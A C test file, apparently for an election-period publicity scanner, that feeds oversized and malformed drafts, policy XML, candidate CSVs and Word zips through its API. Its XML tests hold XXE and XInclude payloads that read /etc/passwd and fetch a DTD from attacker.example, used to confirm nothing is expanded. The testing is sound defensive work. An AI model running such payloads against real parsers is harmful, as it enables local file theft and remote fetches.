/* test_hostile.c: hostile and oversized input, end to end through the public API, filling the
 * gaps the per-module tests leave (see docs/hardening.md for the whole table):
 *   text:  a 100 MB draft (truncated at the default or a configured limit, with a warning), a
 *          limit that falls inside a character, a 10 MB line, mixed line endings (lines and
 *          columns of findings and of warnings), and drafts full of suppression directives;
 *   every format: multi-megabyte drafts (a superlinear pass would hit the test timeout; speed is
 *          measured by the benchmark, never asserted);
 *   HTML:  a name at the end of a 1 MB attribute, deep nesting around a finding, unclosed markup
 *          at the end, character references that are broken, out of range or spell a name;
 *   XML drafts: XInclude, external DTDs, external and parameter entities (never read), depth;
 *   policy XML: duplicate rule and wordlist ids, XInclude, external DTDs, undeclared entities,
 *          unknown attributes, impossible dates, invalid UTF-8 (each an error naming the file and
 *          line);
 *   candidates CSV: a BOM with CRLF and quoted commas, a quoted field over several lines before
 *          a bad row (the error names the right line), NUL bytes, a 1 MB field, a million rows
 *          (time and memory printed, not asserted);
 *   Word:  path tricks in entry names (../, absolute, backslashes, duplicates), missing parts,
 *          an entry that claims 4 GiB, a 40 MB part past the per-part cap.
 * Set PURDAH_TEST_QUICK=1 (the valgrind test setup does) to shrink the big inputs.
 * usage: test_hostile DATA_DIR */
#include "harness.h"
#include "mini_policy.h"

#include "scan.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <time.h>

static const char *data_dir;
static purdah_policy *policy;
static purdah_scanner *scanner;
static bool quick;

#define IN "2027-04-12" /* inside the local window of the mini policy */

/* ---- helpers ---- */

static purdah_result *scan_fmt(const char *data, size_t len, purdah_format format, size_t max_input, int *rc_out)
{
    purdah_scan_options o = PURDAH_SCAN_OPTIONS_INIT;
    o.as_of = IN;
    o.format = format;
    o.max_input_bytes = max_input;
    purdah_result *r = NULL;
    purdah_error *err = NULL;
    int rc = purdah_scan(scanner, data, len, &o, &r, &err);
    if (rc && !rc_out) fprintf(stderr, "scan failed: %s\n", purdah_error_message(err));
    if (rc_out) *rc_out = rc;
    purdah_error_free(err);
    return r;
}

static size_t count_findings(const purdah_result *r, const char *rule, const char *text)
{
    size_t n = 0;
    for (size_t i = 0; i < purdah_result_finding_count(r); i++) {
        const purdah_finding *f = purdah_result_finding(r, i);
        n += strcmp(f->rule_id, rule) == 0 && (!text || strcmp(f->text, text) == 0);
    }
    return n;
}

/* The index-th finding of `rule` (0 = first), or NULL. */
static const purdah_finding *nth(const purdah_result *r, const char *rule, size_t index)
{
    for (size_t i = 0; i < purdah_result_finding_count(r); i++) {
        const purdah_finding *f = purdah_result_finding(r, i);
        if (strcmp(f->rule_id, rule) == 0 && index-- == 0) return f;
    }
    return NULL;
}

static bool has_warning(const purdah_result *r, const char *what)
{
    for (size_t i = 0; i < purdah_result_warning_count(r); i++)
        if (strstr(purdah_result_warning(r, i), what)) return true;
    return false;
}

/* Every finding's bytes are its text and lie inside the input. */
static bool findings_point_into(const purdah_result *r, const char *input, size_t len)
{
    for (size_t i = 0; i < purdah_result_finding_count(r); i++) {
        const purdah_finding *f = purdah_result_finding(r, i);
        if (f->start > f->end || f->end > len || memcmp(input + f->start, f->text, f->end - f->start) != 0)
            return false;
    }
    return true;
}

static char *repeat(const char *piece, size_t times, size_t *len)
{
    size_t n = strlen(piece);
    char *s = malloc(n * times + 1);
    for (size_t i = 0; i < times; i++) memcpy(s + i * n, piece, n);
    s[n * times] = '\0';
    *len = n * times;
    return s;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static long peak_rss_mb(void)
{
    struct rusage u;
    getrusage(RUSAGE_SELF, &u);
    return u.ru_maxrss / 1024;
}

/* ---- text ---- */

/* A 100 MB draft: the default limit (16 MiB) reads its start and says so; a larger configured
 * limit reads all of it; a smaller one reads less. */
static void test_huge_text(void)
{
    size_t total = quick ? (size_t)20 << 20 : (size_t)100 << 20;
    const char line[] = "The leisure centre reopens on Monday with a new timetable of classes.\n";
    char *s = malloc(total);
    for (size_t i = 0; i < total; i += sizeof line - 1)
        memcpy(s + i, line, i + sizeof line - 1 <= total ? sizeof line - 1 : total - i);
    const char head[] = "Cllr Okonkwo opened it.\n", tail[] = "\nCllr Okonkwo closed it.\n";
    memcpy(s, head, sizeof head - 1);
    memcpy(s + total - (sizeof tail - 1), tail, sizeof tail - 1);
    size_t tail_at = total - (sizeof tail - 1) + 1;

    double t0 = now();
    purdah_result *r = scan_fmt(s, total, PURDAH_FORMAT_TEXT, 0, NULL);
    double t1 = now();
    CHECK(r != NULL);
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 1); /* the start only */
    char want[128];
    snprintf(want, sizeof want, "input truncated: only the first %d of %zu bytes were checked", 16 << 20, total);
    CHECK(has_warning(r, want));
    purdah_result_free(r);

    /* a limit above the size: everything is read, the last line is where it is */
    r = scan_fmt(s, total, PURDAH_FORMAT_TEXT, total + 1, NULL);
    double t2 = now();
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 2);
    CHECK_INT(purdah_result_warning_count(r), 0);
    const purdah_finding *last = nth(r, "candidate-named", 1);
    CHECK(last && last->start == tail_at);
    size_t lines = 1;
    for (size_t i = 0; i < tail_at; i++) lines += s[i] == '\n';
    CHECK(last && last->line == lines && last->column == 1);
    purdah_result_free(r);

    /* a smaller limit */
    r = scan_fmt(s, total, PURDAH_FORMAT_TEXT, 1 << 20, NULL);
    CHECK(has_warning(r, "only the first 1048576 of"));
    purdah_result_free(r);
    printf("hostile: %zu MB text: %.2f s at the default limit, %.2f s read whole; peak RSS %ld MB\n",
           total >> 20, t1 - t0, t2 - t1, peak_rss_mb());
    free(s);
}

/* A limit that falls inside a multi-byte character cuts before it: no invalid UTF-8 appears. */
static void test_truncation_inside_character(void)
{
    const char s[] = "Cllr Okonkwo visited Zo\xC3\xAB and the caf\xC3\xA9 today.";
    size_t cut = (size_t)(strstr(s, "\xC3\xAB") - s) + 1; /* between the two bytes of e-umlaut */
    purdah_result *r = scan_fmt(s, sizeof s - 1, PURDAH_FORMAT_TEXT, cut, NULL);
    CHECK(r != NULL);
    CHECK_INT(count_findings(r, "candidate-named", "Cllr Okonkwo"), 1);
    char want[96];
    snprintf(want, sizeof want, "only the first %zu of %zu bytes", cut - 1, sizeof s - 1);
    CHECK(has_warning(r, want));
    CHECK(!has_warning(r, "invalid UTF-8"));
    purdah_result_free(r);
}

/* 10 MB with no line break: one line, columns counted in code points to the very end. */
static void test_long_line(void)
{
    size_t n;
    char *body = repeat("caf\xC3\xA9 ", quick ? 400000 : 1700000, &n); /* 6 bytes, 5 code points */
    const char tail[] = "Cllr Okonkwo";
    char *s = malloc(n + sizeof tail);
    memcpy(s, body, n);
    memcpy(s + n, tail, sizeof tail);
    size_t len = n + sizeof tail - 1;
    purdah_result *r = scan_fmt(s, len, PURDAH_FORMAT_TEXT, 0, NULL);
    const purdah_finding *f = nth(r, "candidate-named", 0);
    CHECK(f != NULL);
    CHECK(f && f->start == n && f->end == len);
    CHECK(f && f->line == 1);
    CHECK(f && f->column == n / 6 * 5 + 1);
    char *json = NULL;
    CHECK_INT(purdah_result_to_json(r, NULL, &json, NULL), PURDAH_OK);
    purdah_free(json);
    purdah_result_free(r);
    /* the same line inside one HTML paragraph */
    memcpy(s, "<p>", 3);
    r = scan_fmt(s, len, PURDAH_FORMAT_HTML, 0, NULL);
    f = nth(r, "candidate-named", 0);
    CHECK(f && f->start == n && f->line == 1);
    purdah_result_free(r);
    free(body);
    free(s);
}

/* CRLF, LF and a lone CR each end a line, in text and HTML, for findings and for warnings. */
static void test_mixed_line_endings(void)
{
    static const char text[] = "a\r\nb\nc\rCllr Okonkwo\r\n\r\nd\n\rCllr Okonkwo said\r";
    /* lines: 1 a, 2 b, 3 c, 4 Cllr.., 5 (empty), 6 d, 7 (empty), 8 Cllr.. */
    purdah_result *r = scan_fmt(text, sizeof text - 1, PURDAH_FORMAT_TEXT, 0, NULL);
    const purdah_finding *f1 = nth(r, "candidate-named", 0);
    const purdah_finding *f2 = NULL;
    for (size_t i = 0; i < purdah_result_finding_count(r); i++) {
        const purdah_finding *f = purdah_result_finding(r, i);
        if (f->start == (size_t)(strstr(text + 20, "Cllr") - text)) f2 = f;
    }
    CHECK(f1 && f1->line == 4 && f1->column == 1 && f1->start == 7);
    CHECK(f2 && f2->line == 8 && f2->column == 1);
    CHECK(findings_point_into(r, text, sizeof text - 1));
    purdah_result_free(r);

    static const char html[] = "<p>a</p>\r\n<p>b</p>\r<p>\n  Cllr Okonkwo</p>\n\r\n<p>x <b>Cllr\r\nOkonkwo</b></p>";
    r = scan_fmt(html, sizeof html - 1, PURDAH_FORMAT_HTML, 0, NULL);
    f1 = nth(r, "candidate-named", 0);
    f2 = nth(r, "candidate-named", 1);
    CHECK(f1 && f1->line == 4 && f1->column == 3);
    CHECK(f2 && f2->line == 6 && f2->column == 9 && strcmp(f2->text, "Cllr\r\nOkonkwo") == 0);
    CHECK(findings_point_into(r, html, sizeof html - 1));
    purdah_result_free(r);

    /* warnings about directives count lines the same way */
    static const char directives[] = "a\r\nb\rc\n# purdah-disable candidate-named\nCllr Okonkwo\n";
    r = scan_fmt(directives, sizeof directives - 1, PURDAH_FORMAT_TEXT, 0, NULL);
    CHECK(has_warning(r, "line 4: suppression ignored: it gives no reason"));
    CHECK_INT(count_findings(r, "candidate-named", NULL), 1);
    purdah_result_free(r);
}

/* Drafts made of directives: one pass each (they took minutes when every warning recounted the
 * lines from the start and every finding searched every directive), at most 1000 directives
 * honoured, and a directive past the cap suppresses nothing. */
static void test_many_directives(void)
{
    size_t n;
    /* 100,000 directives without a reason: each a warning, up to the cap */
    char *s = repeat("# purdah-disable candidate-named\n", quick ? 20000 : 100000, &n);
    purdah_result *r = scan_fmt(s, n, PURDAH_FORMAT_TEXT, 0, NULL);
    CHECK(r != NULL);
    CHECK(purdah_result_warning_count(r) <= 1001);
    CHECK(has_warning(r, "line 1001: more than 1000 purdah directives: this one and the rest were ignored"));
    CHECK(has_warning(r, "line 1000: suppression ignored: it gives no reason"));
    purdah_result_free(r);
    free(s);

    /* 100,000 suppressed names: the first 1000 are suppressed, the rest are findings */
    s = repeat("# purdah-disable-next-line candidate-named -- a factual list\nCllr Okonkwo\n", quick ? 20000 : 100000, &n);
    r = scan_fmt(s, n, PURDAH_FORMAT_TEXT, 0, NULL);
    size_t suppressed = 0, open = 0;
    for (size_t i = 0; i < purdah_result_finding_count(r); i++) {
        const purdah_finding *f = purdah_result_finding(r, i);
        if (strcmp(f->rule_id, "candidate-named") != 0) continue;
        if (f->suppressed) suppressed++;
        else open++;
    }
    CHECK_INT(suppressed, 1000);
    CHECK_INT(suppressed + open, quick ? 20000 : 100000);
    CHECK_INT(purdah_result_verdict(r), PURDAH_VERDICT_BLOCK);
    purdah_result_free(r);
    free(s);

    /* disable/enable pairs in HTML comments: enable closes regions without rescanning them all */
    s = repeat("<!-- purdah-disable candidate-named -- ok --><p>Cllr Okonkwo</p><!-- purdah-enable -->\n",
               quick ? 20000 : 100000, &n);
    r = scan_fmt(s, n, PURDAH_FORMAT_HTML, 0, NULL);
    CHECK(r != NULL);
    CHECK(has_warning(r, "more than 1000 purdah directives"));
    CHECK(findings_point_into(r, s, n));
    purdah_result_free(r);
    free(s);
}

/* Every format, several megabytes built by repeating a small draft full of findings. */
static void test_big_drafts(void)
{
    static const struct {
        purdah_format format;
        const char *piece;
    } drafts[] = {
        {PURDAH_FORMAT_TEXT, "Cllr Okonkwo said \"the Labour group delivered\" at the new scheme launch.\n"},
        {PURDAH_FORMAT_HTML, "<p>Cllr <b>Okonkwo</b> said <q>vote Labour</q> <img alt=\"Priya Okonkwo\"> "
                             "<a href=\"https://labour.org.uk\">here</a>&amp;&#8217;</p>\n"},
        {PURDAH_FORMAT_MARKDOWN, "# Cllr Okonkwo\n\n> Priya Okonkwo said *we* delivered [Labour](https://labour.org.uk)\n\n"
                                 "- item ![Priya Okonkwo](x.png)\n\n"},
        {PURDAH_FORMAT_XML, "<item><title>Cllr Okonkwo</title><description>Vote Labour &amp; more"
                            "</description></item>\n"},
        {PURDAH_FORMAT_SOCIAL, "Great to see Cllr Okonkwo at the fair! #VoteLabour @SianForAbbey https://labour.org.uk\n\n"},
    };
    for (size_t i = 0; i < sizeof drafts / sizeof drafts[0]; i++) {
        size_t piece = strlen(drafts[i].piece), times = ((quick ? 1u : 6u) << 20) / piece, n;
        char *s = repeat(drafts[i].piece, times, &n);
        if (drafts[i].format == PURDAH_FORMAT_XML) memcpy(s, "<rss>", 5), memcpy(s + 5, "<item>", 6);
        double t0 = now();
        int rc;
        purdah_result *r = scan_fmt(s, n, drafts[i].format, 0, &rc);
        CHECK_INT(rc, PURDAH_OK);
        CHECK(purdah_result_finding_count(r) >= times);
        CHECK(findings_point_into(r, s, n));
        printf("hostile: %zu MB %s draft, %zu findings: %.2f s\n", n >> 20, purdah_format_name(drafts[i].format),
               purdah_result_finding_count(r), now() - t0);
        purdah_result_free(r);
        free(s);
    }
}

/* ---- HTML ---- */

static void test_html(void)
{
    /* a candidate's name at the end of a 1 MB alt attribute */
    size_t big = (size_t)1 << 20;
    char *s = malloc(big + 64);
    size_t n = (size_t)sprintf(s, "<p>x</p><img alt=\"");
    memset(s + n, 'a', big);
    s[n + big - 1] = ' ';
    n += big;
    size_t name_at = n;
    n += (size_t)sprintf(s + n, "Priya Okonkwo\">");
    purdah_result *r = scan_fmt(s, n, PURDAH_FORMAT_HTML, 0, NULL);
    const purdah_finding *f = nth(r, "candidate-in-image", 0);
    CHECK(f && f->start == name_at && strcmp(f->text, "Priya Okonkwo") == 0 && strcmp(f->role, "image_alt") == 0);
    purdah_result_free(r);
    free(s);

    /* a name 100,000 elements deep, then unclosed markup at the end */
    size_t n1, n2;
    char *open = repeat("<div><span>", quick ? 20000 : 100000, &n1);
    char *close = repeat("</span></div>", quick ? 20000 : 100000, &n2);
    s = malloc(n1 + n2 + 64);
    memcpy(s, open, n1);
    n = n1 + (size_t)sprintf(s + n1, "Cllr Okonkwo");
    memcpy(s + n, close, n2);
    n += n2;
    n += (size_t)sprintf(s + n, "<p title=\"never closed");
    r = scan_fmt(s, n, PURDAH_FORMAT_HTML, 0, NULL);
    f = nth(r, "candidate-named", 0);
    CHECK(f && f->start == n1);
    CHECK(has_warning(r, "nested too deeply"));
    CHECK(has_warning(r, "malformed markup"));
    purdah_result_free(r);
    free(open);
    free(close);
    free(s);

    /* character references: a name spelled with them is found and points at the references; broken,
     * out-of-range and unknown ones are text or U+FFFD, never a crash or a name */
    static const char refs[] = "<p>Cllr &#79;konkw&#x6F;.</p><p>Cllr Okonkw&#1114112; and Cllr Okonkw&#0; and "
                               "Cllr Okonkw&#xD800; and &#99999999999999999999; &#x; &#; &; &amp &notanentity; "
                               "&amp;lt; &#x0000006F;</p><p>Ruth Bake&#114</p>";
    r = scan_fmt(refs, sizeof refs - 1, PURDAH_FORMAT_HTML, 0, NULL);
    CHECK(r != NULL);
    CHECK_INT(count_findings(r, "candidate-named", "Cllr &#79;konkw&#x6F;"), 1);
    CHECK_INT(count_findings(r, "candidate-named", NULL), 1);
    CHECK_INT(count_findings(r, "member-named", "Ruth Bake&#114"), 1); /* a legacy reference without ';' */
    CHECK(findings_point_into(r, refs, sizeof refs - 1));
    purdah_result_free(r);
}

/* ---- XML drafts ---- */

static void test_xml_drafts(void)
{
    static const char attack[] =
        "<?xml version=\"1.0\"?>\n"
        "<!DOCTYPE news SYSTEM \"file:///etc/passwd\" [\n"
        "  <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;\n"
        "  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n"
        "  <!ENTITY lol \"Cllr Okonkwo Cllr Okonkwo\">\n"
        "]>\n"
        "<?xml-stylesheet href=\"file:///etc/passwd\"?>\n"
        "<news xmlns:xi=\"http://www.w3.org/2001/XInclude\">\n"
        "  <xi:include href=\"file:///etc/passwd\" parse=\"text\"/>\n"
        "  <xi:include href=\"/etc/hostname\" parse=\"xml\"><xi:fallback>Cllr Okonkwo</xi:fallback></xi:include>\n"
        "  <p>&xxe; &lol; &remote;</p>\n"
        "</news>\n";
    purdah_result *r = scan_fmt(attack, sizeof attack - 1, PURDAH_FORMAT_XML, 0, NULL);
    CHECK(r != NULL);
    /* the fallback's own text is element text; nothing is included or expanded */
    CHECK_INT(count_findings(r, "candidate-named", NULL), 1);
    const purdah_finding *f = nth(r, "candidate-named", 0);
    CHECK(f && f->line == 10);
    char *json = NULL;
    purdah_result_to_json(r, NULL, &json, NULL);
    CHECK(json && !strstr(json, "root:") && !strstr(json, "/bin/"));
    purdah_free(json);
    purdah_result_free(r);

    /* deep nesting through the whole scan */
    size_t n1, n2;
    char *open = repeat("<d>", quick ? 20000 : 100000, &n1);
    char *close = repeat("</d>", quick ? 20000 : 100000, &n2);
    char *s = malloc(n1 + n2 + 32);
    memcpy(s, open, n1);
    size_t n = n1 + (size_t)sprintf(s + n1, "Cllr Okonkwo");
    memcpy(s + n, close, n2);
    r = scan_fmt(s, n + n2, PURDAH_FORMAT_XML, 0, NULL);
    f = nth(r, "candidate-named", 0);
    CHECK(f && f->start == n1);
    CHECK(has_warning(r, "nested too deeply"));
    purdah_result_free(r);
    free(open);
    free(close);
    free(s);
}

/* ---- policy XML ---- */

#define HEAD "<?xml version=\"1.0\"?>\n<policy xmlns=\"urn:purdah:policy:1\" name=\"hostile\">\n"

/* Loads (and compiles) a policy from memory; returns the status and the error. */
static int load_policy(const char *xml, purdah_error **err)
{
    purdah_builder *b = NULL;
    purdah_builder_new(&b);
    *err = NULL;
    int rc = purdah_builder_load_policy_buffer(b, xml, strlen(xml), "hostile.xml", err);
    if (rc == PURDAH_OK) {
        purdah_policy *p = NULL;
        rc = purdah_policy_compile(&p, b, err);
        purdah_policy_free(p);
    }
    purdah_builder_free(b);
    return rc;
}

/* The error is `code`, names hostile.xml at `line` (0: any line > 0), and says `what`. */
static void check_policy_error(const char *xml, int code, unsigned long line, const char *what)
{
    purdah_error *err = NULL;
    int rc = load_policy(xml, &err);
    CHECK_INT(rc, code);
    CHECK_STR(purdah_error_file(err), "hostile.xml");
    if (line) CHECK_INT(purdah_error_line(err), line);
    else CHECK(purdah_error_line(err) > 0);
    if (!strstr(purdah_error_message(err), what)) {
        fprintf(stderr, "error \"%s\" does not say \"%s\"\n", purdah_error_message(err), what);
        CHECK(0);
    }
    purdah_error_free(err);
}

#define RULE(id)                                                                                   \
    "  <rule id=\"" id "\" category=\"party\" in-window=\"block\" outside=\"review\">\n"           \
    "    <description>d</description><match list=\"parties\"/><message>m</message>\n"             \
    "    <cite clause=\"lga1986-s2-2\"/>\n  </rule>\n"

static void test_policy_xml(void)
{
    /* duplicate ids in one file: the schema's unique constraints, with the line of the second */
    check_policy_error(HEAD "  <catalogue src=\"builtin:clauses/lga-1986.xml\"/>\n"
                            "  <wordlist id=\"parties\" src=\"builtin:parties.txt\"/>\n" RULE("same") RULE("same")
                            "</policy>\n",
                       PURDAH_EPOLICY, 9, "Duplicate key-sequence ['same']");
    check_policy_error(HEAD "  <wordlist id=\"parties\" src=\"builtin:parties.txt\"/>\n"
                            "  <wordlist id=\"parties\" src=\"builtin:titles.txt\"/>\n</policy>\n",
                       PURDAH_EPOLICY, 4, "Duplicate key-sequence ['parties']");
    /* XInclude is not processed: it is an element the schema does not know */
    check_policy_error(HEAD "  <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\" parse=\"text\"/>\n"
                            "</policy>\n",
                       PURDAH_EPOLICY, 3, "include");
    /* external DTDs and entities are refused before parsing */
    check_policy_error("<?xml version=\"1.0\"?>\n<!-- a comment -->\n<!DOCTYPE policy SYSTEM \"file:///etc/passwd\">\n"
                       "<policy xmlns=\"urn:purdah:policy:1\" name=\"x\"/>\n",
                       PURDAH_EPOLICY, 3, "DOCTYPE and ENTITY declarations are not allowed");
    check_policy_error("<?xml version=\"1.0\"?>\n<!DOCTYPE policy PUBLIC \"-//x//y\" \"http://attacker.example/p.dtd\">\n"
                       "<policy xmlns=\"urn:purdah:policy:1\" name=\"x\"/>\n",
                       PURDAH_EPOLICY, 2, "DOCTYPE");
    /* "<!DOCTYPE" inside a comment is only a comment */
    purdah_error *err = NULL;
    CHECK_INT(load_policy("<?xml version=\"1.0\"?>\n<!-- <!DOCTYPE x> <!ENTITY y \"z\"> -->\n"
                          "<policy xmlns=\"urn:purdah:policy:1\" name=\"x\"/>\n", &err), PURDAH_OK);
    purdah_error_free(err);
    /* an entity never declared: malformed XML, at its line */
    check_policy_error(HEAD "  <description>&xxe;</description>\n</policy>\n", PURDAH_EPOLICY, 3, "malformed XML");
    /* unknown attributes, impossible dates, invalid UTF-8, an empty file */
    check_policy_error(HEAD "  <wordlist id=\"w\" src=\"builtin:titles.txt\" evil=\"1\"/>\n</policy>\n", PURDAH_EPOLICY,
                       3, "evil");
    check_policy_error(HEAD "  <non-working-day date=\"2027-02-29\"/>\n</policy>\n", PURDAH_EPOLICY, 3, "2027-02-29");
    check_policy_error(HEAD "  <elections>\n    <election type=\"local\" poll=\"2027-05-06\" notice=\"2027-04-31\"/>\n"
                            "  </elections>\n</policy>\n",
                       PURDAH_EPOLICY, 4, "2027-04-31");
    check_policy_error(HEAD "  <description>caf\xC3 \xFF</description>\n</policy>\n", PURDAH_EPOLICY, 3, "malformed XML");
    check_policy_error("", PURDAH_EPOLICY, 0, "malformed XML");
}

/* ---- candidates CSV ---- */

static int add_candidates(const char *csv, size_t len, purdah_builder **out, purdah_error **err)
{
    purdah_builder_new(out);
    *err = NULL;
    return purdah_builder_add_candidates_buffer(*out, csv, len, "hostile.csv", err);
}

static void test_candidates_csv(void)
{
    purdah_builder *b;
    purdah_error *err;
    /* a BOM, CRLF and quoted commas in the simple format */
    static const char bom[] = "\xEF\xBB\xBFname,party,area\r\n\"Smith, Jo\",\"Labour, Co-operative\",\"Abbey, North\"\r\n"
                              "Sam \"\"Sparky\"\" Green,Green Party,Millbrook\r\n";
    CHECK_INT(add_candidates(bom, sizeof bom - 1, &b, &err), PURDAH_OK);
    CHECK_INT(b->candidate_count, 2);
    if (b->candidate_count == 2) {
        CHECK_STR(b->candidates[0].name, "Smith, Jo");
        CHECK_STR(b->candidates[0].party, "Labour, Co-operative");
        CHECK_STR(b->candidates[0].area, "Abbey, North");
        CHECK_STR(b->candidates[1].name, "Sam \"\"Sparky\"\" Green"); /* quotes inside an unquoted field stay */
        CHECK_INT(b->candidates[1].line, 3);
    }
    purdah_builder_free(b);

    /* a quoted field over three lines, then a short row: the error names the row's own line */
    static const char multi[] = "name,party,area\n\"Jo\nSmith\nJones\",Labour,Abbey\nSam Green,Green Party\n";
    CHECK_INT(add_candidates(multi, sizeof multi - 1, &b, &err), PURDAH_EDATA);
    CHECK_STR(purdah_error_file(err), "hostile.csv");
    CHECK_INT(purdah_error_line(err), 5);
    CHECK(strstr(purdah_error_message(err), "2 fields") != NULL);
    purdah_error_free(err);
    purdah_builder_free(b);

    /* too many fields */
    static const char wide[] = "name,party,area\nSam Green,Green Party,Millbrook,extra\n";
    CHECK_INT(add_candidates(wide, sizeof wide - 1, &b, &err), PURDAH_EDATA);
    CHECK_INT(purdah_error_line(err), 2);
    CHECK(strstr(purdah_error_message(err), "4 fields") != NULL);
    purdah_error_free(err);
    purdah_builder_free(b);

    /* NUL bytes and a 1 MB field: a clear status, never a crash */
    static const char nul[] = "name,party,area\nSam\0Green,Green Party,Millbrook\n";
    int rc = add_candidates(nul, sizeof nul - 1, &b, &err);
    CHECK(rc == PURDAH_OK || (rc == PURDAH_EDATA && purdah_error_line(err) == 2));
    purdah_error_free(err);
    purdah_builder_free(b);
    size_t big = (size_t)1 << 20;
    char *s = malloc(big + 64);
    size_t n = (size_t)sprintf(s, "name,party,area\n");
    memset(s + n, 'a', big);
    n += big;
    n += (size_t)sprintf(s + n, " Smith,Labour,Abbey\n");
    rc = add_candidates(s, n, &b, &err);
    CHECK(rc == PURDAH_OK || rc == PURDAH_EDATA || rc == PURDAH_ELIMIT);
    if (rc) CHECK(purdah_error_file(err) != NULL);
    purdah_error_free(err);
    if (rc == PURDAH_OK) {
        purdah_policy *p = NULL;
        CHECK_INT(purdah_builder_load_default(b, NULL), PURDAH_OK);
        rc = purdah_policy_compile(&p, b, &err);
        CHECK(rc == PURDAH_OK || (rc != PURDAH_ENOMEM && err && purdah_error_file(err)));
        purdah_error_free(err);
        purdah_policy_free(p);
    }
    purdah_builder_free(b);
    free(s);
}

/* A million candidates: loaded and compiled (or refused clearly), then found in a draft. */
static void test_million_candidates(void)
{
    size_t rows = quick ? 20000 : 1000000;
    static const char consonants[] = "bcdfghjklmnprstvwz", vowels[] = "aeiou";
    size_t cap = rows * 48 + 64, n = 0;
    char *s = malloc(cap);
    n += (size_t)sprintf(s, "name,party,area,election_date\n");
    char target[64] = "";
    for (size_t i = 0; i < rows; i++) {
        char first[8], last[16];
        size_t v = i, k = 0;
        for (int w = 0; w < 2; w++, v /= 90) {
            first[k++] = consonants[v % 18];
            first[k++] = vowels[(v / 18) % 5];
        }
        first[k] = '\0';
        first[0] = (char)(first[0] - 32);
        k = 0;
        v = i;
        for (int w = 0; w < 4; w++, v /= 90) {
            last[k++] = consonants[v % 18];
            last[k++] = vowels[(v / 18) % 5];
        }
        memcpy(last + k, "well", 5);
        last[0] = (char)(last[0] - 32);
        n += (size_t)snprintf(s + n, cap - n, "%s %s,Party %zu,Ward %zu,2027-05-06\n", first, last, i % 7, i % 500);
        if (i == rows - 1) snprintf(target, sizeof target, "Cllr %s", last);
    }
    double t0 = now();
    purdah_builder *b = NULL;
    purdah_error *err = NULL;
    purdah_builder_new(&b);
    char path[1024];
    snprintf(path, sizeof path, "%s/mini/policy.xml", data_dir);
    CHECK_INT(purdah_builder_load_policy_file(b, path, NULL), PURDAH_OK);
    int rc = purdah_builder_add_candidates_buffer(b, s, n, "million.csv", &err);
    double t1 = now();
    purdah_policy *p = NULL;
    if (rc == PURDAH_OK) rc = purdah_policy_compile(&p, b, &err);
    double t2 = now();
    purdah_builder_free(b);
    free(s);
    if (rc != PURDAH_OK) { /* a clear refusal is acceptable; say what it was */
        printf("hostile: %zu candidates refused: %s\n", rows, purdah_error_message(err));
        CHECK(rc != PURDAH_ENOMEM && err && purdah_error_file(err));
        purdah_error_free(err);
        return;
    }
    purdah_scanner *sc = NULL;
    purdah_scanner_new(&sc, p);
    char draft[128];
    snprintf(draft, sizeof draft, "Today %s said the hall would reopen.", target);
    purdah_scan_options o = PURDAH_SCAN_OPTIONS_INIT;
    o.as_of = IN;
    purdah_result *r = NULL;
    CHECK_INT(purdah_scan(sc, draft, strlen(draft), &o, &r, NULL), PURDAH_OK);
    double t3 = now();
    CHECK_INT(count_findings(r, "candidate-quoted", target), 1);
    printf("hostile: %zu candidates: parsed in %.2f s, compiled in %.2f s, a scan took %.4f s; peak RSS %ld MB\n",
           rows, t1 - t0, t2 - t1, t3 - t2, peak_rss_mb());
    purdah_result_free(r);
    purdah_scanner_free(sc);
    purdah_policy_free(p);
}

/* ---- Word documents: a hand-made zip writer (stored entries), so entry names and sizes can be
 * anything at all ---- */

typedef struct zentry {
    const char *name;
    const char *data;
    size_t len;         /* 0: strlen(data) */
    uint32_t claim;     /* the uncompressed size the headers state; 0: the real one */
} zentry;

static uint32_t crc32_of(const char *p, size_t n)
{
    uint32_t c = 0xFFFFFFFFu;
    for (size_t i = 0; i < n; i++) {
        c ^= (unsigned char)p[i];
        for (int k = 0; k < 8; k++) c = (c >> 1) ^ (0xEDB88320u & (0u - (c & 1)));
    }
    return ~c;
}

static void put16(char **w, unsigned v) { *(*w)++ = (char)(v & 0xFF); *(*w)++ = (char)(v >> 8); }
static void put32(char **w, uint32_t v) { put16(w, v & 0xFFFF); put16(w, v >> 16); }

static char *make_zip(const zentry *e, size_t count, size_t *out_len)
{
    size_t cap = 22;
    for (size_t i = 0; i < count; i++) cap += 30 + 46 + 2 * strlen(e[i].name) + (e[i].len ? e[i].len : strlen(e[i].data));
    char *z = malloc(cap), *w = z;
    uint32_t *offsets = calloc(count, sizeof *offsets), *crcs = calloc(count, sizeof *crcs);
    for (size_t i = 0; i < count; i++) {
        size_t len = e[i].len ? e[i].len : strlen(e[i].data), nl = strlen(e[i].name);
        offsets[i] = (uint32_t)(w - z);
        crcs[i] = crc32_of(e[i].data, len);
        put32(&w, 0x04034b50);
        put16(&w, 20), put16(&w, 0), put16(&w, 0), put16(&w, 0), put16(&w, 0x21);
        put32(&w, crcs[i]), put32(&w, (uint32_t)len), put32(&w, e[i].claim ? e[i].claim : (uint32_t)len);
        put16(&w, (unsigned)nl), put16(&w, 0);
        memcpy(w, e[i].name, nl), w += nl;
        memcpy(w, e[i].data, len), w += len;
    }
    char *cd = w;
    for (size_t i = 0; i < count; i++) {
        size_t len = e[i].len ? e[i].len : strlen(e[i].data), nl = strlen(e[i].name);
        put32(&w, 0x02014b50);
        put16(&w, 20), put16(&w, 20), put16(&w, 0), put16(&w, 0), put16(&w, 0), put16(&w, 0x21);
        put32(&w, crcs[i]), put32(&w, (uint32_t)len), put32(&w, e[i].claim ? e[i].claim : (uint32_t)len);
        put16(&w, (unsigned)nl), put16(&w, 0), put16(&w, 0), put16(&w, 0), put16(&w, 0);
        put32(&w, 0), put32(&w, offsets[i]);
        memcpy(w, e[i].name, nl), w += nl;
    }
    uint32_t cd_size = (uint32_t)(w - cd), cd_at = (uint32_t)(cd - z);
    put32(&w, 0x06054b50);
    put16(&w, 0), put16(&w, 0), put16(&w, (unsigned)count), put16(&w, (unsigned)count);
